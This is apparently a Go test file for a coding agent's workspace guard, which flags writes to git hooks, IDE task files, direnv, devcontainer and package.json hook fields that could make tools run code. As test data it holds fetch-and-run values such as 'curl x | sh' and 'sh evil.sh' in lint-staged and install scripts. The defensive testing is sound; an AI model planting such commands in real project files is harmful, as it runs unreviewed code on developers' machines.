package tools_test

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/rebound-agent/rebound/agent/tools"
	"github.com/rebound-agent/rebound/internal/testkit"
)

func TestWorkspace_Protected(t *testing.T) {
	base := t.TempDir()
	// The workspace itself lies below a directory whose name is protected:
	// only what is below a root counts.
	proj := filepath.Join(base, ".idea", "proj")
	mkTree(t, base, map[string]string{
		".idea/proj/.git/hooks/": "",
		".idea/proj/src/main.go": "",
		".idea/proj/.vscode/":    "",
	})
	testkit.Symlink(t, ".git/hooks", filepath.Join(proj, "notes"))
	testkit.Symlink(t, ".vscode/tasks.json", filepath.Join(proj, "todo.json"))
	testkit.Symlink(t, "src", filepath.Join(proj, "code"))
	ws := tools.NewWorkspace(proj)

	tests := []struct {
		path, has string // has: a word of the reason; "" for none
	}{
		{"src/main.go", ""},
		{"code/main.go", ""},
		{"README.md", ""},
		{"git/config", ""},
		{"vscode/settings.json", ""},
		{".gitignore", ""},
		{".github/workflows/ci.yml", ""},
		{"", ""},
		{".git/config", "core.fsmonitor"},
		{".git/hooks/pre-commit", "git run a program"},
		{"sub/module/.git", ".git file"},
		{filepath.Join(proj, ".git", "config"), "core.fsmonitor"},
		{".GIT/config", ".git"},
		{".Git./config", ".git"},      // NTFS drops the trailing dot
		{".g\u200cit/config", ".git"}, // HFS+ ignores the zero-width non-joiner
		{"GIT~1/config", "short Windows name"},
		{".hg/hgrc", "Mercurial"},
		{".jj/repo/config.toml", "jj"},
		{".svn/wc.db", "Subversion"},
		{".husky/pre-commit", "hooks"},
		{".githooks/pre-push", "core.hooksPath"},
		{".pre-commit-config.yaml", "pre-commit"},
		{"a/b/.gitattributes", "drivers"},
		{"sub/.envrc", "direnv"},
		{".vscode/tasks.json", "VS Code"},
		{"pkg/.VSCode/settings.json", "VS Code"},
		{".zed/settings.json", "Zed"},
		{".idea/workspace.xml", "JetBrains"},
		{".helix/languages.toml", "Helix"},
		{".devcontainer/devcontainer.json", "initializeCommand"},
		{".devcontainer.json", "initializeCommand"},
		{".dir-locals.el", "Emacs"},
		{"lisp/.dir-locals-2.el", "Emacs"},
		{".nvim.lua", "exrc"},
		{".nvimrc", "exrc"},
		{".exrc", "exrc"},
		// Through a link: the real target is checked too.
		{"notes/pre-commit", ".git"},
		{"todo.json", "VS Code"},
	}
	for _, tt := range tests {
		got := ws.Protected(tt.path)
		if tt.has == "" {
			if got != "" {
				t.Errorf("Protected(%q) = %q, want \"\"", tt.path, got)
			}
			continue
		}
		if !strings.Contains(got, tt.has) || !strings.HasPrefix(got, "it is ") {
			t.Errorf("Protected(%q) = %q, want a reason starting \"it is\" and mentioning %q", tt.path, got, tt.has)
		}
	}
}

// package.json is the project's build description, so it asks only for a
// change to what a hook runner or corepack reads from it.
func TestWorkspace_ProtectedWrite(t *testing.T) {
	proj := t.TempDir()
	mkTree(t, proj, map[string]string{"package.json": "{}", "packages/web/": ""})
	testkit.Symlink(t, "package.json", filepath.Join(proj, "deps.json"))
	ws := tools.NewWorkspace(proj)
	const base = `{"name": "app", "scripts": {"build": "tsc", "postinstall": "node setup.js"}, "lint-staged": {"*.js": "eslint"}, "dependencies": {"left-pad": "1.0.0"}}`
	s := func(v string) *string { return &v }
	tests := []struct {
		path    string
		old     *string
		updated string
		has     string // a word of the reason; "" for none
	}{
		{"package.json", s(base), strings.Replace(base, `"tsc"`, `"tsc -b"`, 1), ""},
		{"package.json", s(base), strings.Replace(base, `node setup.js`, `curl x | sh`, 1), ""}, // install scripts: out, with the dependencies
		{"package.json", s(base), strings.Replace(base, `"1.0.0"`, `"github:someone/left-pad"`, 1), ""},
		{"package.json", s(base), strings.ReplaceAll(base, `, `, ",\n  "), ""}, // the same values, laid out anew
		{"package.json", s(base), strings.Replace(base, `"eslint"`, `"curl x | sh"`, 1), "lint-staged"},
		{"package.json", s(base), strings.Replace(base, `}}`, `}, "lint-staged": {"*": "sh evil.sh"}}`, 1), "lint-staged"}, // a repeated key: the last wins, as in Node
		{"package.json", s(base), strings.Replace(base, `{"name"`, `{"simple-git-hooks": {"pre-commit": "sh x"}, "name"`, 1), "simple-git-hooks"},
		{"package.json", s(base), strings.Replace(base, `{"name"`, `{"husky": {"hooks": {"pre-commit": "sh x"}}, "name"`, 1), "husky"},
		{"package.json", s(base), strings.Replace(base, `{"name"`, `{"pre-commit": ["build"], "name"`, 1), "pre-commit"},
		{"package.json", s(base), strings.Replace(base, `{"name"`, `{"gitHooks": {"pre-commit": "sh x"}, "name"`, 1), "gitHooks"},
		{"package.json", s(base), strings.Replace(base, `{"name"`, `{"config": {"ghooks": {"pre-commit": "sh x"}}, "name"`, 1), "ghooks"},
		{"package.json", s(base), strings.Replace(base, `{"name"`, `{"packageManager": "yarn@https://example.invalid/yarn.tgz", "name"`, 1), "corepack"},
		{"package.json", s(base), `{"name": "app", "dependencies": {}}`, "lint-staged"}, // removing it changes what runs too
		{"package.json", s(base), base + "garbage", "does not parse"},
		{"package.json", nil, `{"name": "new"}`, ""},
		{"packages/web/package.json", nil, `{"lint-staged": {"*": "sh x"}}`, "lint-staged"},
		{"packages/web/PACKAGE.JSON", s("{}"), `{"nano-staged": {"*": "sh x"}}`, "nano-staged"},
		{"deps.json", s("{}"), `{"lint-staged": {"*": "sh x"}}`, "lint-staged"}, // through a link: the real target counts
		{"other.json", s("{}"), `{"lint-staged": {"*": "sh x"}}`, ""},
		{"lefthook.yml", nil, "pre-commit: {}", "lefthook"}, // Protected's places hold too
	}
	for _, tt := range tests {
		got := ws.ProtectedWrite(tt.path, tt.old, tt.updated)
		if tt.has == "" {
			if got != "" {
				t.Errorf("ProtectedWrite(%q, …, %.60q) = %q, want \"\"", tt.path, tt.updated, got)
			}
			continue
		}
		if !strings.Contains(got, tt.has) || !strings.HasPrefix(got, "it is ") {
			t.Errorf("ProtectedWrite(%q, …, %.60q) = %q, want a reason mentioning %q", tt.path, tt.updated, got, tt.has)
		}
	}
}

// The directory a repository's core.hooksPath names is protected wherever
// it is, in the repository around the workspace or one inside it.
func TestWorkspace_ProtectedHooksPath(t *testing.T) {
	base := t.TempDir()
	mkTree(t, base, map[string]string{
		"repo/.git/config":                 "[user]\n\tname = x\n[Core]\n\tbare = false\n\tHooksPath = \"scripts/git hooks\" ; the team's\n",
		"repo/ws/.gitkeep":                 "",
		"repo/ws/sub/.git":                 "gitdir: ../../.git/modules/sub\n",
		"repo/.git/modules/sub/config":     "[core] hooksPath = tools/h\n",
		"repo/ws/wt/.git":                  "gitdir: " + filepath.Join(base, "repo/.git/worktrees/wt") + "\n",
		"repo/.git/worktrees/wt/commondir": "../..\n",
		"repo/ws/dot/.git/config":          "[core]\n\thooksPath = .\n",
	})
	ws := tools.NewWorkspace(filepath.Join(base, "repo", "ws"))
	testkit.Symlink(t, filepath.Join(base, "repo", "scripts", "git hooks"), filepath.Join(base, "repo", "ws", "hooks-link"))
	tests := []struct {
		path    string
		protect bool
	}{
		{"../scripts/git hooks/pre-commit", true}, // outside the workspace, but Protected does not confine
		{filepath.Join(base, "repo", "scripts", "GIT HOOKS", "helper.sh"), true},
		{"hooks-link/pre-push", true},
		{"../scripts/build.sh", false},
		{"sub/tools/h/pre-commit", true},
		{"sub/tools/h/lib/common.sh", true},
		{"sub/tools/x.sh", false},
		{"wt/scripts/git hooks/commit-msg", true}, // a linked worktree reads the common config
		{"wt/scripts/other", false},
		{"dot/pre-commit", true}, // hooksPath = . : the hook names directly in it only
		{"dot/main.go", false},
		{"dot/src/pre-commit", false},
		{"main.go", false},
	}
	for _, tt := range tests {
		if got := ws.Protected(tt.path); (got != "") != tt.protect {
			t.Errorf("Protected(%q) = %q, want protected %v", tt.path, got, tt.protect)
		}
	}
}

// A core.hooksPath set in the global or system git config holds for every
// repository that sets none of its own, as git reads it: the global
// ".githooks" makes each repository's .githooks its hooks.
func TestWorkspace_ProtectedHooksPathFromOuterConfigs(t *testing.T) {
	base := t.TempDir()
	home := filepath.Join(base, "home")
	mkTree(t, base, map[string]string{
		"repo/.git/config":        "[core]\n\tbare = false\n",
		"own/.git/config":         "[core]\n\thooksPath = mine\n",
		"sys/gitconfig":           "[core]\n\thooksPath = sys-hooks\n",
		"home/.gitconfig":         "[core]\n\thooksPath = .githooks-global\n",
		"home/.config/git/config": "[core]\n\thooksPath = xdg-hooks\n",
		"alt/global":              "[core]\n\thooksPath = \"alt hooks\"\n",
	})
	check := func(t *testing.T, root string, tests map[string]bool) {
		t.Helper()
		ws := tools.NewWorkspace(filepath.Join(base, root))
		for p, protect := range tests {
			if got := ws.Protected(p); (got != "") != protect {
				t.Errorf("Protected(%s/%s) = %q, want protected %v", root, p, got, protect)
			}
		}
	}
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", "")
	t.Setenv("GIT_CONFIG_GLOBAL", "")
	t.Setenv("GIT_CONFIG_SYSTEM", filepath.Join(base, "sys", "gitconfig"))
	t.Setenv("GIT_CONFIG_NOSYSTEM", "")
	t.Run("~/.gitconfig, read after the XDG file and the system one", func(t *testing.T) {
		check(t, "repo", map[string]bool{".githooks-global/pre-commit": true, ".githooks-global/lib.sh": true,
			"xdg-hooks/pre-commit": false, "sys-hooks/pre-commit": false, "main.go": false})
		// The repository's own value holds over the global one.
		check(t, "own", map[string]bool{"mine/pre-commit": true, ".githooks-global/pre-commit": false})
	})
	t.Run("the XDG file when ~/.gitconfig sets none", func(t *testing.T) {
		t.Setenv("HOME", filepath.Join(base, "nohome"))
		t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
		check(t, "repo", map[string]bool{"xdg-hooks/pre-push": true, ".githooks-global/pre-commit": false})
	})
	t.Run("the system config when no global one does", func(t *testing.T) {
		t.Setenv("HOME", filepath.Join(base, "nohome"))
		check(t, "repo", map[string]bool{"sys-hooks/commit-msg": true, "main.go": false})
		t.Setenv("GIT_CONFIG_NOSYSTEM", "true")
		check(t, "repo", map[string]bool{"sys-hooks/commit-msg": false})
	})
	t.Run("GIT_CONFIG_GLOBAL replaces the global files", func(t *testing.T) {
		t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(base, "alt", "global"))
		check(t, "repo", map[string]bool{"alt hooks/pre-commit": true, ".githooks-global/pre-commit": false})
	})
}
